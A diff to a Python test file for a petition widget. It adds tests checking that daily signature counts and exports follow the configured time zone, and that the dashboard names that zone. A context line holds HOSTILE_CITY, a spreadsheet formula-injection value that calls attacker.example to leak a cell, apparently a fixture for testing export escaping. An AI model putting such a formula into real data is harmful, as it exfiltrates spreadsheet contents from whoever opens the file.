@@ -7,6 +7,7 @@ import json
 import logging
 import re
 from datetime import UTC
+from datetime import date
 from datetime import datetime
 from datetime import timedelta
 
@@ -20,6 +21,7 @@ from sqlalchemy import text
 from tests.conftest import DEMO_CAMPAIGNS
 from tests.conftest import action_count
 from tests.conftest import count_rows
+from tests.conftest import demo_app
 from tests.conftest import sign
 from tests.test_call import report
 from tests.test_call import single_district_zip
@@ -29,6 +31,9 @@ from widget.embedding.partners import add_partner
 from widget.extensions import db
 from widget.organizers import exports
 from widget.organizers.exports import safe_cell
+from widget.organizers.reports import campaign_counts
+from widget.organizers.scope import Scope
+from widget.storage.models import Campaign
 from widget.storage.models import Signature
 
 HOSTILE_CITY = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
@@ -615,3 +620,50 @@ def test_signing_in_leads_only_to_the_dashboards_own_pages(client, runner, wante
     signed = client.post("/dashboard/sign-in", query_string={"lang": "en", "next": wanted},
                          data={"csrf_token": csrf(page), "username": "olga", "password": password})
     assert signed.status_code == 302 and signed.headers["Location"] == lands_on
+
+
+def signed_at(app, moments):
+    """Signatures on the demo petition made at these moments (UTC)."""
+    client = app.test_client()
+    for number, moment in enumerate(moments):
+        email = f"zone{number}@example.org"
+        sign(client, email=email)
+        with app.app_context():
+            signature = db.session.scalars(select(Signature).where(Signature.email == email)).one()
+            signature.created_at = moment
+            db.session.commit()
+
+
+def days_counted(app):
+    with app.app_context():
+        campaign = db.session.scalars(select(Campaign).where(Campaign.slug == "demo-petition")).one()
+        return campaign_counts(Scope(campaign)).by_day, campaign
+
+
+@pytest.mark.parametrize(("zone", "days"), [
+    ("UTC", [("2026-12-06", 1), ("2026-12-07", 3)]),
+    # 07:30 UTC is 23:30 the day before in California; 08:30 is half past midnight.
+    ("America/Los_Angeles", [("2026-12-06", 2), ("2026-12-07", 2)]),
+    # India is five and a half hours ahead: 18:29 UTC is 23:59 there, 18:31 is 00:01.
+    ("Asia/Kolkata", [("2026-12-06", 1), ("2026-12-07", 2), ("2026-12-08", 1)]),
+])
+def test_days_are_counted_in_the_services_time_zone(database_url, zone, days):
+    moments = [datetime(2026, 12, 6, 18, 29, tzinfo=UTC), datetime(2026, 12, 7, 7, 30, tzinfo=UTC),
+               datetime(2026, 12, 7, 8, 30, tzinfo=UTC), datetime(2026, 12, 7, 18, 31, tzinfo=UTC)]
+    with demo_app(database_url, TIME_ZONE=zone) as app:
+        signed_at(app, moments)
+        by_day, campaign = days_counted(app)
+        assert [(day.isoformat(), count) for day, count in by_day] == days
+        # An export's days are the same days: the one that ends at midnight there.
+        with app.app_context():
+            first_day = db.session.scalars(Scope(campaign, None, date(2026, 12, 7), date(2026, 12, 7)).rows()).all()
+            assert len(first_day) == dict(days).get("2026-12-07", 0)
+
+
+def test_the_dashboard_says_in_which_time_zone_its_days_begin(database_url, runner):
+    with demo_app(database_url, TIME_ZONE="America/Los_Angeles") as app:
+        signed_at(app, [datetime(2026, 12, 7, 7, 30, tzinfo=UTC)])
+        client = app.test_client()
+        sign_in(client, "olga", make_account(app.test_cli_runner(), "olga"), lang="es")
+        page = client.get("/dashboard/campaigns/demo-petition?lang=es").get_data(as_text=True)
+        assert page.count("Cada día empieza a medianoche, en la zona horaria America/Los Angeles.") == 2
